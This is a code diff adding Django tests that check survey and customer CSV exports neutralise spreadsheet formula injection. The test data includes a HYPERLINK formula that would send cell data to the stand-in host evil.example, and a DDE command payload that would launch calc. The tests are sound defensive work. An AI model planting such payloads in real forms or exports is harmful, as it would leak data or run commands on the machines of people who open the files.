@@ -12,6 +12,7 @@ from django.utils.translation import gettext as _
 
 from surveys import selectors
 from surveys.models import SurveyInvitation
+from tests.core.formulas import FORMULAS, opens_a_formula
 from tests.factories import SegmentFactory
 from tests.surveys.factories import InvitationFactory, SurveyCustomerFactory, SurveyResponseFactory
 
@@ -188,6 +189,31 @@ def test_csv_export_has_a_bom_a_header_and_one_row_per_response(manager_client, 
 def test_csv_export_follows_the_filters(manager_client, answers, rep):
     rows = _csv_rows(manager_client.get(URL, {"format": "csv", "rep": rep.pk}))
     assert sorted(row[5] for row in rows[1:]) == ["10", "9"]
+
+
+@pytest.mark.parametrize(("typed", "written"), FORMULAS.items(), ids=repr)
+def test_no_cell_of_the_survey_export_runs_as_a_formula(manager_client, rep, typed, written):
+    _answer(SurveyCustomerFactory(name=typed, owner=rep), 2, reason=typed)
+    rows = _csv_rows(manager_client.get(URL, {"format": "csv"}))
+    [row] = rows[1:]
+    assert (row[1], row[5], row[7]) == (written, "2", written)  # the score stays a number
+    assert not any(opens_a_formula(cell) for row in rows for cell in row)
+
+
+def test_a_formula_typed_on_the_public_survey_page_reaches_no_export_alive(client, manager_client, sent):
+    """The customer's reason and the friend they refer both come from outside the company."""
+    hyperlink = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+    client.post(
+        sent.path,
+        {"score": "3", "reason": hyperlink, "referral_name": "+cmd|' /C calc'!A0", "referral_mobile": "09125551234"},
+    )
+
+    [answer] = _csv_rows(manager_client.get(URL, {"format": "csv"}))[1:]
+    assert answer[7] == "'" + hyperlink
+    customers = _csv_rows(manager_client.get(reverse("customers:export")))
+    referred = next(row for row in customers if row[1] == "09125551234")
+    assert referred[0] == "'+cmd|' /C calc'!A0"
+    assert not any(opens_a_formula(cell) for row in customers for cell in row)
 
 
 def test_reps_cannot_see_survey_results_or_export_them(rep_client, answers):
